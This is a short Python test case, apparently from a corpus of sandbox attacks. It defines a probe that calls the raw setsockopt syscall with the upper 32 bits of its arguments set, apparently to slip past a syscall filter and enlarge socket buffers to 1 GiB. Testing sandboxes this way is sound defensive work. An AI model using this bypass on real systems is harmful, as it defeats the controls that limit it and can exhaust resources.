"""Asks for large buffers of sockets in numbers whose upper half the system ignores."""

from hostile.corpus import Attack

attack = Attack(
    starts="right",
    added={
        "check-pad1d": """
import ctypes, platform, socket

number = {"x86_64": 54, "aarch64": 208}[platform.machine()]
call, high = ctypes.CDLL(None).syscall, 1 << 32
call.argtypes = [ctypes.c_long] * 6
one, other = socket.socketpair()
wish = ctypes.c_int(1 << 30)
for option in (socket.SO_SNDBUF, socket.SO_RCVBUF):
    before = one.getsockopt(socket.SOL_SOCKET, option)
    for bits in (0, 1, 2, 3):
        level = socket.SOL_SOCKET | high * (bits & 1)
        which = option | high * (bits >> 1)
        call(number, one.fileno(), level, which, ctypes.addressof(wish), 4)
    after = one.getsockopt(socket.SOL_SOCKET, option)
    print("REACHED" if after > before else "still", after)
print("TRIED")
"""
    },
    tried=True,
)
